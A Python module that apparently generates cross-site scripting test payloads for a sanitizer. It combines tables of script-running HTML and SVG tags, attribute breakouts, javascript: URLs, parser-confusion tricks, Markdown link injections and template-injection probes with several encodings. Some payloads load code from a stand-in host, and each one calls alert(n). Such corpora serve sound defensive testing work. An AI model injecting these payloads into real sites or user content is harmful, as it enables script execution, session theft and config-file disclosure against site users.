"""Hostile texts: what somebody types who wants a script to run at a reader's. Each calls `alert(its number)`.

They are made of a few parts: what would run, how one gets out of where a text stands, how it is disguised. In
the tables § stands for the call, ⏎ for the end of a line, ⇥ for a tab, ⍽ for a blank that does not break.
"""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator
from html import escape
from urllib.parse import quote

# What would run where a text is taken for HTML.
_RUNS = r"""
<script>§</script>
<SCRIPT/x>§</SCRIPT >
<scr<script>ipt>§</scr</script>ipt>
<script src="https://e.vn/§.js"></script>
<script type=module>§</script>
<img src=x onerror=§>
<img/src='x'/onerror='§'/>
<IMG SRC=x ONERROR="§">
<img src=x onerror⏎=§ x=">
<img srcset="https://e.vn/§.jpg 1x">
<svg onload=§>
<svg><script>§</script></svg>
<svg><animate onbegin=§ attributeName=x dur=1s>
<svg><a xlink:href="javascript:§"><text y=20>x</text></a></svg>
<svg><set attributeName=href to=javascript:§></svg>
<svg><foreignObject><img src=x onerror=§></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=§ />#x">
<math href="javascript:§">x</math>
<math><maction actiontype=statusline xlink:href=javascript:§>x</maction></math>
<body onload=§>
<input autofocus onfocus=§>
<select autofocus onfocus=§><option>x</select>
<textarea autofocus onfocus=§>x</textarea>
<a href=# id=x tabindex=0 autofocus onfocus=§>x</a>
<p contenteditable autofocus onfocus=§>x</p>
<x tabindex=1 autofocus onfocus=§>x</x>
<details open ontoggle=§><summary>x</summary>y</details>
<video autoplay onloadstart=§><source src=x></video>
<audio src=x onerror=§></audio>
<video><source onerror=§ src=x></video>
<marquee onstart=§>x</marquee>
<iframe src="javascript:parent.§"></iframe>
<iframe srcdoc="<script>parent.§</script>"></iframe>
<object data="javascript:§"></object>
<embed src="javascript:§">
<a href="javascript:§">x</a>
<a href="&#106;ava&Tab;script&colon;§">x</a>
<a href=" javascript:§" title=x>x</a>
<a href="java⇥script:§">x</a>
<a href="data:text/html,<script>§</script>">x</a>
<form action="javascript:§"><button>x</button></form>
<button form=tim formaction="javascript:§">x</button>
<meta http-equiv=refresh content="0;url=javascript:§">
<meta http-equiv=refresh content="0;url=https://e.vn/§">
<base href="https://e.vn/§/">
<link rel=stylesheet href="https://e.vn/§.css">
<link rel=prefetch href="https://e.vn/§">
<style>@import "https://e.vn/§.css"; *{background:url(https://e.vn/x)}</style>
<p style="background:url(https://e.vn/§)">x</p>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="§">x</p>
<table background="https://e.vn/§.jpg"><td>x</table>
<picture><source srcset="https://e.vn/§.jpg"><img src=x alt=x></picture>
<template><img src=x onerror=§></template>
<template shadowrootmode=open><img src=x onerror=§></template>
<noscript><p title="</noscript><img src=x onerror=§>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=§&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=§>
<svg></p><style><a title="</style><img src=x onerror=§>">
<p title="<!--"><img title="--><img src=x onerror=§>">
<table><td><a title="</table><img src=x onerror=§>">x</table>
<b title='`"><img src=x onerror=§>`'>x</b>
<xmp><p title="</xmp><img src=x onerror=§>"></xmp>
<button popovertarget=x>x</button><x popover id=x onbeforetoggle=§>x</x>
<![CDATA[><img src=x onerror=§>]]>
<?xml version="1.0"?><img src=x onerror=§>
<!--><img src=x onerror=§>-->
</main></body><img src=x onerror=§>"""

# How one gets out of an attribute, an element of plain text, a comment, a block of data.
_WAYS_OUT = ('">', "'>", "</title>", "</script>", "--></style></textarea></pre>", "]]></a>")

# What would run within a tag, a script, a template, an address.
_INSIDE = r"""
" onmouseover=§ x="
" autofocus tabindex=0 onfocus="§
' autofocus tabindex=0 onfocus='§
x onerror=§ x=
` onfocus=§ autofocus `
"/autofocus/onfocus=§//
"><svg/onload=§//
';§;//
";§;//
\";§;//
`;${§}`
</script><script>§//
*/§/*
{{ § }}
{{ ''.__class__.__mro__[1].__subclasses__() }}{% if § %}
{% include "../../config.yaml" %}<img src=x onerror=§>
{{ "<img src=x onerror=§>" | safe }}
${§}
#{§}
<%= § %>
javascript:§
JaVaScRiPt:§
javascript&colon;§
 javascript:§
java⏎script:§
javascript://e.vn/%0a§
data:text/html,<script>§</script>
vbscript:§
//e.vn/§
\\e.vn\§
https://e.vn/"onmouseover="§
https://e.vn/'><script>§</script>
https://e.vn/?a="><img src=x onerror=§>
https://"onload=§"@e.vn/
../../../x"onerror=§"
%22%3E%3Cscript%3E§%3C/script%3E
⍽"onfocus=§⍽
ꞏ0ꞏ" onfocus=§
"+§+"
=§"""

# What Markdown makes tags of.
_MARKDOWN = r"""
[x](javascript:§)
[x](<javascript:§>)
[x](JAVASCRIPT:§ "x")
[x](&#106;avascript:§)
[x](java&#x0A;script:§)
[x](\javascript:§)
[x](data:text/html;base64,PHNjcmlwdD4§)
[x](https://e.vn/"onmouseover="§)
[x](https://e.vn "\" onfocus=§ autofocus x=")
[x](https://e.vn 'a" onfocus=§ autofocus tabindex=0 b="')
[x](https://e.vn "<img src=x onerror=§>")
[x][y]⏎⏎[y]: javascript:§
[x][y]⏎⏎[y]: https://e.vn "x\" onfocus=§ autofocus"
![x" onerror=§ y="](x.jpg)
![x](x" onerror=§ y="
![x](javascript:§)
![x](https://e.vn/§.jpg)
![x](x.jpg "<script>§</script>")
![<img src=x onerror=§>](https://e.vn/x.jpg)
<javascript:§>
<https://e.vn/"onmouseover=§>
<x@e.vn"onfocus=§>
{: onfocus=§ autofocus}⏎Chữ
Chữ {: onmouseover="§" style="x"}
# Đầu đề {: onfocus="§" id='x"onload=x'}
## <img src=x onerror=§>
```<img src=x onerror=§>⏎<script>§</script>⏎```
`<script>§</script>`
~~~ "onload="§⏎x⏎~~~
a | <script>§</script>⏎--|--⏎<img src=x onerror=§> | [x](javascript:§)
x[^1]⏎⏎[^1]: <img src=x onerror=§>
x[^"onload=§]⏎⏎[^"onload=§]: y
*[x]: <script>§</script>⏎⏎x
> > <img src=x onerror=§>⏎> [x](javascript:§)
- a⏎  - <svg onload=§>⏎    1. [x](javascript:§)
A.⏎⏎Alpha" onfocus="§" autofocus tabindex="0"⏎⏎[x](https://e.vn "&#xA78F;0&#xA78F;")
<p>[x](javascript:§)</p>
<b>**x</b onclick=§>**
<a href="y.md#"onclick="§">x</a>
<img alt="![x](javascript:§)" src=x>
[<img src=x onerror=§>](https://e.vn)
[![x](x onerror=§)](javascript:§)
\<script>§</script>
&lt;script&gt;§&lt;/script&gt;
&#60;img src=x onerror=§&#62;
<img title=`<script>§</script>`
&#0;0&#0;<svg onload=§>
<div>⏎⏎<script>§</script>⏎⏎</div>
<details>⏎<summary>[x](javascript:§)</summary>⏎<img src=x onerror=§>⏎</details>"""


def _wide(text: str) -> str:
    """In letters as wide as Chinese ones, which some normal forms make plain."""
    return "".join(chr(ord(char) + 0xFEE0) if char in "<>\"'=()/" else char for char in text)


_DISGUISES: tuple[Callable[[str], str], ...] = (
    escape,
    lambda text: escape(escape(text)),
    lambda text: "".join(f"&#{ord(char)};" if char in "<>\"'" else char for char in text),
    lambda text: text.replace("<", "&#x0003c").replace(">", "&#x3e"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: quote(text).replace(quote("§"), "§"),
    _wide,
    lambda text: text.replace("<", "<\u200b").replace("=", "=\u00ad"),
    lambda text: text.replace("<", "&lt;").replace(" ", "/").upper(),
)


def _lines(text: str) -> list[str]:
    return [_meant(line) for line in text.strip("\n").split("\n")]


def _meant(line: str) -> str:
    for sign, stands_for in (("⏎", "\n"), ("⇥", "\t"), ("⍽", "\u00a0")):
        line = line.replace(sign, stands_for)
    return line


def _all() -> Iterator[str]:
    runs = _lines(_RUNS)
    yield from runs
    yield from _lines(_INSIDE)
    yield from _lines(_MARKDOWN)
    yield from (way + run for way, run in itertools.product(_WAYS_OUT, runs[::2]))
    yield from (disguise(run) for disguise, run in itertools.product(_DISGUISES, runs[1::3]))
    yield from (f"**Khen** {run} *thưởng*" for run in runs)


PAYLOADS = tuple(text.replace("§", f"alert({number})") for number, text in enumerate(dict.fromkeys(_all())))


def some(count: int) -> tuple[str, ...]:
    """So many of them, of every table."""
    return tuple(PAYLOADS[n * len(PAYLOADS) // count] for n in range(min(count, len(PAYLOADS))))
